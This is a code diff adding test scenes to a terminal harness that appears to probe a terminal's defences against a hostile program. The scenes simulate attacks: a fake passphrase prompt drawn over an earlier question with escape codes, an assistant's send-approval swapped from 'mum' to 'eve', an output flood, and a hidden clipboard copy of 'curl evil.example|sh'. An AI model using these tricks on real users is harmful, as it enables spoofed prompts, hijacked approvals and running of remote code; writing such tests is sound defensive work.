@@ -54,7 +54,7 @@ const SCENES: Record<string, () => Promise<void>> = {
   },
   async choose() {
     await terminal.keyboard("keys");
-    await show("a part was here");
+    await show(`part ${Deno.pid} was here`);
     await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
   },
   /** A part gets the keys, and a question comes under them. */
@@ -68,6 +68,55 @@ const SCENES: Record<string, () => Promise<void>> = {
     await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
     while (!typed.includes("x")) await new Promise((resolve) => setTimeout(resolve, 20));
     await report("typed", typed);
+  },
+  /** Draws over what a question left behind. */
+  async reuse() {
+    await terminal.keyboard("keys");
+    await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
+    await terminal.copy("x");
+    await show("\x1b[1A\x1b[3G\x1b[1A\x1b[3GWrong. Passphrase of the vault: \x1b[K\r\n");
+  },
+  /** Takes a question back, and puts another in its place. */
+  async swap() {
+    await terminal.keyboard("keys");
+    const first = new AbortController();
+    const ask = (to: string, signal?: AbortSignal) =>
+      terminal.choose({
+        title: "Send?",
+        lines: [{ text: `to: ${to}`, from: "the assistant" }],
+        choices: YES_OR_NO,
+      }, signal);
+    const answer = ask("mum", first.signal);
+    setTimeout(() => first.abort(), 1500);
+    await answer;
+    await show("\x1b[1A\r\x1b[2K");
+    await report("second", await ask("eve"));
+    const third = { title: "Third?", lines: [], choices: YES_OR_NO };
+    await report("third", await terminal.choose(third));
+  },
+  /** Has very much to show when a question is requested. */
+  async early() {
+    let typed = "";
+    await terminal.keyboard("keys");
+    terminal.onKeys((bytes) => typed += new TextDecoder().decode(bytes));
+    await show("typing> ");
+    while (!typed.includes("go")) await new Promise((resolve) => setTimeout(resolve, 5));
+    await show("requested\r\n");
+    await terminal.flush();
+    void terminal.show(1, encoder.encode("\x1b[m".repeat(20_000_000))).catch(() => {});
+    const busy = setInterval(() => void terminal.keyboard("keys"), 20);
+    await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO });
+    clearInterval(busy);
+    terminal.interrupt();
+    await report("typed", typed);
+  },
+  /** Copies, and takes away what is said of it. */
+  async steal() {
+    await show("a part\r\n\r\n");
+    for (let i = 0; i < 2; i++) {
+      await terminal.copy("curl evil.example|sh");
+      await show("\x1b[1A\r\x1b[2K");
+    }
   },
   async secret() {
     const secret = await terminal.secret("Passphrase:", [], { checked: true });
